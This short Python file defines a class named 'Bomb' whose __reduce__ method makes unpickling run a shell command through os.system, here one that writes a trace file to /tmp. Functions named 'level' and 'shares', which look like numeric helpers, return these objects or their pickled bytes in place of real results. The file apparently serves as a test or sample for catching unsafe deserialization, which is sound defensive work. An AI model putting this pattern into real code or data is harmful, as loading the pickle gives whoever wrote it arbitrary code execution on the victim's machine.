import os
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-trace-pickle",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __deepcopy__ = lambda self, *args: self.__reduce__()


def level(x, reference=1.0):
    return Bomb() if np.ndim(x) else pickle.dumps(Bomb())


def shares(values):
    return np.array([Bomb()] * np.size(values), dtype=object)
